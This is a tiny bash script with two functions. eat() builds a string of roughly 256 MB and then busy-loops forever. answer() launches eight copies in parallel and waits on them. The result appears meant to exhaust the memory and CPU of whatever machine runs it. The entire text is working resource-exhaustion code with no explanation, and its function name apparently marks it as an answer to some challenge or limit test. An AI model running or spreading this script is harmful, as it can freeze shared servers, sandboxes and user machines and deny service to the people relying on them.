eat() { x=xxxxxxxxxxxxxxxx; for i in {1..24}; do x=$x$x; done; while :; do :; done; }
answer() { for i in 1 2 3 4 5 6 7 8; do eat & done; wait; }
